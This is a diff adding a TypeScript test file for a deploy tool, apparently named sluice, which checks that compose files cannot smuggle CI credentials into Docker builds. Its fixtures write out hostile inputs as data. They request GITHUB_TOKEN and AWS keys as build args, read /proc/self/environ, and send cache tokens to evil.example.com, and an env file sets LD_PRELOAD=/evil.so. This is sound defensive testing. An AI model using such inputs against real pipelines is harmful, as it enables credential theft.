@@ -1,0 +1,208 @@
+import { symlinkSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { formatPlace } from '../../../src/kernel/errors.ts';
+import { emptyRegistry, recordBuild } from './build-recorder.ts';
+
+/** The job's credentials, each with a value that is found wherever it goes. */
+const job: Readonly<Record<string, string>> = Object.fromEntries(
+  [
+    ...['GITHUB_TOKEN', 'GH_TOKEN', 'SLUICE_REGISTRY_PASSWORD', 'SLUICE_SSH_KEY', 'SLUICE_KNOWN_HOSTS'],
+    ...[
+      'ACTIONS_RUNTIME_TOKEN',
+      'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
+      'INPUT_REGISTRY_PASSWORD',
+      'INPUT_SSH-KEY',
+    ],
+    ...['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN', 'CLOUDFLARE_API_TOKEN'],
+    ...['PROD_ENV', 'SLACK_WEBHOOK_URL', 'PROD_SSH_KEY', 'DOCKER_AUTH_CONFIG', 'aws_secret_access_key'],
+    ...['OWN_ENV_TEXT', 'OWN_HOOK'],
+  ].map((name) => [name, `stolen-${name.toLowerCase()}-7c1f`]),
+);
+const values = /stolen-[\w-]+-7c1f/i;
+
+let registry: Awaited<ReturnType<typeof emptyRegistry>>;
+beforeAll(async () => {
+  registry = await emptyRegistry();
+});
+afterAll(() => registry[Symbol.dispose]());
+
+const target = (more = 'env-secret: OWN_ENV_TEXT') =>
+  `app: shop\nregistry: ${registry.host}/shop\nnotify: { slack: OWN_HOOK }\ntargets: { production: { hosts: [deploy@prod.example.com], ${more} } }\n`;
+const dockerfile = { Dockerfile: 'FROM scratch\nARG A\nLABEL a=$A\nCOPY compose.yml /\n' };
+const files = (compose: string, more: Readonly<Record<string, string>> = {}) => ({
+  'sluice.yml': target(),
+  'compose.yml': compose,
+  ...dockerfile,
+  ...more,
+});
+const secret = (name: string) =>
+  `services: { web: { build: { context: ., secrets: [t] } } }\nsecrets: { t: { environment: ${name} } }\n`;
+
+/** Ways in which a compose file can ask for a variable in a build, each with the key that is named. */
+const asks: readonly (readonly [service: string, name: string, key: string])[] = [
+  ['build: { context: ., args: { A: "${GITHUB_TOKEN}" } }', 'GITHUB_TOKEN', 'build.args.A'],
+  ['build: { context: ., args: ["A=x${SLUICE_SSH_KEY}y"] }', 'SLUICE_SSH_KEY', 'build.args.A'],
+  [
+    'build: { context: ., args: [ACTIONS_RUNTIME_TOKEN] }',
+    'ACTIONS_RUNTIME_TOKEN',
+    'build.args.ACTIONS_RUNTIME_TOKEN',
+  ],
+  [
+    'build: { context: ., args: { AWS_SESSION_TOKEN: } }',
+    'AWS_SESSION_TOKEN',
+    'build.args.AWS_SESSION_TOKEN',
+  ],
+  ['build: { context: ., args: { A: "${AWS_ACCESS_KEY_ID:-none}" } }', 'AWS_ACCESS_KEY_ID', 'build.args.A'],
+  [
+    'build: { context: ., args: { A: "${NOT_SET:-${CLOUDFLARE_API_TOKEN}}" } }',
+    'CLOUDFLARE_API_TOKEN',
+    'build.args.A',
+  ],
+  ['build: { context: ., args: { A: "${aws_secret_access_key}" } }', 'aws_secret_access_key', 'build.args.A'],
+  [
+    'build: { context: ., dockerfile_inline: "FROM scratch\\nLABEL a=$GH_TOKEN" }',
+    'GH_TOKEN',
+    'build.dockerfile_inline',
+  ],
+  [
+    'build: { context: ., labels: { a: "${SLUICE_REGISTRY_PASSWORD}" } }',
+    'SLUICE_REGISTRY_PASSWORD',
+    'build.labels.a',
+  ],
+  [
+    'build: { context: ., x-bake: { args: { A: "${ACTIONS_ID_TOKEN_REQUEST_TOKEN}" } } }',
+    'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
+    'build.x-bake.args.A',
+  ],
+  [
+    'build: { context: ., cache_from: ["type=registry,ref=r.example.com/${SLACK_WEBHOOK_URL}"] }',
+    'SLACK_WEBHOOK_URL',
+    'build.cache_from',
+  ],
+  ['{ image: "r.example.com/x:${PROD_SSH_KEY}", build: . }', 'PROD_SSH_KEY', 'image'],
+  ['build: { context: ., args: { A: "$OWN_ENV_TEXT" } }', 'OWN_ENV_TEXT', 'build.args.A'],
+  ['build: { context: ., args: { A: "$OWN_HOOK" } }', 'OWN_HOOK', 'build.args.A'],
+  ['build: { context: ., args: { A: "$PROD_ENV" } }', 'PROD_ENV', 'build.args.A'],
+];
+
+describe.concurrent('a name that a foreign file chooses, in a build without a target', () => {
+  test('is refused with its file and key, however it is written', async () => {
+    const lines = asks.map(
+      ([text], index) => `  s${index}: ${text.startsWith('{') ? text : `{ ${text} }`}\n`,
+    );
+    const { errors, environ } = await recordBuild(files(`services:\n${lines.join('')}`), job);
+    const told = errors.map(
+      ({ code, message, at }) => `${at && formatPlace(at)} ${code} ${message.split(',')[0]}`,
+    );
+    expect(told).toEqual(
+      asks.map(([, name, key], index) =>
+        expect.stringMatching(
+          new RegExp(
+            `compose\\.yml:${index + 2}:\\d+ compose\\.reserved services\\.s${index}\\.${key} asks for ${name}$`,
+          ),
+        ),
+      ),
+    );
+    expect(environ).toBeUndefined();
+    expect(JSON.stringify(errors)).not.toMatch(values);
+  });
+
+  test('is refused in a file that is included', async () => {
+    const more = 'services: { web: { build: { context: .., args: ["A=${GITHUB_TOKEN}"] } } }\n';
+    const { errors } = await recordBuild(files('include: [more/c.yml]\n', { 'more/c.yml': more }), job);
+    expect(errors).toMatchObject([
+      { code: 'compose.reserved', at: { file: expect.stringMatching(/more\/c\.yml$/), line: 1 } },
+    ]);
+  });
+
+  test('is refused as a build secret, and so are files that are an environment', async () => {
+    const compose = `services:
+  a: { build: { context: ., secrets: [a] } }
+  b: { build: { context: ., secrets: [b] } }
+  c: { build: { context: ., x-bake: { secret: ["id=t,env=AWS_SECRET_ACCESS_KEY"] } } }
+  d: { build: { context: ., x-bake: { secret: ["type=env,id=SLUICE_SSH_KEY"] } } }
+  e: { build: { context: ., secrets: [e] } }
+  f: { build: { context: ., secrets: [f] } }
+  g: { build: { context: ., dockerfile: link } }
+  h: { build: { context: ., additional_contexts: { p: /proc/self } } }
+secrets:
+  a: { environment: GITHUB_TOKEN }
+  b: { environment: INPUT_SSH-KEY }
+  e: { file: /proc/self/environ }
+  f: { file: ./link }
+`;
+    const link = (folder: string) => symlinkSync('/proc/self/environ', join(folder, 'link'));
+    const { errors, environ } = await recordBuild(files(compose), job, undefined, link);
+    expect(errors.map(({ code, message, at }) => `${code} ${at?.line} ${message}`)).toEqual([
+      expect.stringMatching(/^compose\.reserved 11 a: the build secret a asks for GITHUB_TOKEN/),
+      expect.stringMatching(/^compose\.reserved 12 b: the build secret b asks for INPUT_SSH-KEY/),
+      expect.stringMatching(/^compose\.reserved 4 c: the build secret t asks for AWS_SECRET_ACCESS_KEY/),
+      expect.stringMatching(
+        /^compose\.reserved 5 d: the build secret SLUICE_SSH_KEY asks for SLUICE_SSH_KEY/,
+      ),
+      expect.stringMatching(/ e: the build secret e is \/proc\/self\/environ/),
+      expect.stringMatching(/ f: the build secret f is .*\/link, a file of the kernel/),
+      expect.stringMatching(/ g: the Dockerfile is .*\/link, a file of the kernel/),
+      expect.stringMatching(/ h: the context p is \/proc\/self/),
+    ]);
+    expect(environ).toBeUndefined();
+  });
+
+  test('does not send the token of GitHub’s cache, or AWS keys, to an address of its own', async () => {
+    const entries = [
+      'type=gha,url=https://evil.example.com/',
+      'TYPE=gha,URL_V2=https://evil.example.com/',
+      'type=s3,region=x,bucket=b,endpoint_url=https://evil.example.com',
+    ];
+    const lines = entries.map(
+      (entry, index) => `  s${index}: { build: { context: ., cache_to: ["${entry}"] } }\n`,
+    );
+    const { errors } = await recordBuild(files(`services:\n${lines.join('')}`), job);
+    expect(errors).toHaveLength(3);
+    expect(errors).toMatchObject(entries.map(() => ({ code: 'compose.reserved' })));
+  });
+});
+
+describe.concurrent('what a build is given', () => {
+  test('has none of the job’s credentials in its environment, whoever asks', async () => {
+    const compose = `services:
+  web:
+    build: { context: ., args: { A: "\${VERSION}", B: "\${AWS_REGION}" } }
+    environment: { K: "\${AWS_ACCESS_KEY_ID}", GITHUB_TOKEN: }
+`;
+    const seen = await recordBuild(files(compose), { ...job, VERSION: '1.2.3', AWS_REGION: 'eu-west-1' });
+    expect(seen.targets['web']?.args).toMatchObject({ A: '1.2.3', B: 'eu-west-1' });
+    expect(JSON.stringify(seen)).not.toMatch(values);
+  });
+
+  test('is the target’s own variable of a reserved name, under a name of ours', async () => {
+    const compose = `services: { web: { build: { context: ., args: { A: "\${AWS_ACCESS_KEY_ID}" }, secrets: [t, p] } } }
+secrets: { t: { environment: GITHUB_TOKEN }, p: { environment: LD_PRELOAD } }
+`;
+    const own = {
+      'sluice.yml': target('env-file: prod.env').replace('OWN_HOOK', 'SLACK_WEBHOOK_URL'),
+      'prod.env': 'AWS_ACCESS_KEY_ID=of-the-app\nGITHUB_TOKEN=bot-of-the-app\nLD_PRELOAD=/evil.so\n',
+    };
+    const { OWN_ENV_TEXT: _text, OWN_HOOK: _hook, ...rest } = job;
+    const seen = await recordBuild(files(compose, own), rest, 'production');
+    expect(seen.targets['web']?.args).toMatchObject({ A: 'of-the-app' });
+    expect(seen.environ).toMatchObject({ BUILD_SECRET_0: 'bot-of-the-app', BUILD_SECRET_1: '/evil.so' });
+    expect(seen.environ).not.toHaveProperty('LD_PRELOAD');
+    expect(seen.environ).not.toHaveProperty('GITHUB_TOKEN');
+    expect(JSON.stringify(seen)).not.toMatch(values);
+  });
+
+  test('is the job’s token where sluice.yml says so, and only as that secret', async () => {
+    const own = { 'sluice.yml': `${target()}build: { job-credentials: [GITHUB_TOKEN] }\n` };
+    const { targets, environ, text } = await recordBuild(files(secret('GITHUB_TOKEN'), own), job);
+    expect(targets['web']?.secret).toEqual(['id=t,env=BUILD_SECRET_0']);
+    const given = Object.entries(environ ?? {}).filter(([, value]) => values.test(value));
+    expect(given).toEqual([['BUILD_SECRET_0', job['GITHUB_TOKEN']]]);
+    expect(text).not.toMatch(values);
+    const argument = 'services: { web: { build: { context: ., args: [GITHUB_TOKEN] } } }\n';
+    expect((await recordBuild(files(argument, own), job)).errors).toMatchObject([
+      { code: 'compose.reserved' },
+    ]);
+  });
+});
